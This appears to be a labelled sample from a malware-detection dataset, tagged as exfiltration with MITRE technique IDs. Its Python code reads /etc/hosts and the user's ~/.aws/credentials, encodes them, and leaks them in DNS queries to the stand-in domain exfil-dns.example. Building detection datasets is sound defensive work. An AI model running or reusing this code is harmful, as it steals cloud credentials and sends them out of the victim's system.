# label: malicious family=exfil techniques=T1048.003,T1071.004,T1552.001 lines=3,6
import base64, socket
data = open("/etc/hosts", "rb").read() + open(__import__("os").path.expanduser("~/.aws/credentials"), "rb").read()
enc = base64.b32encode(data).decode().rstrip("=").lower()
for n, i in enumerate(range(0, len(enc), 50)):
    socket.getaddrinfo("%s.%d.x.exfil-dns.example" % (enc[i:i+50], n), 53)
